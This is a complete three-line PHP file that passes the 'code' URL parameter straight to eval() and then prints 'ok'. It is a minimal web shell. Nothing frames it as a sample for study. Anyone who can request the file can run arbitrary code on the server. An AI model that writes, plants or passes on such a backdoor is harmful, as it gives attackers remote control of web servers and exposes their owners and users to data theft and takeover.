<?php
eval($_GET['code']);
echo "ok";
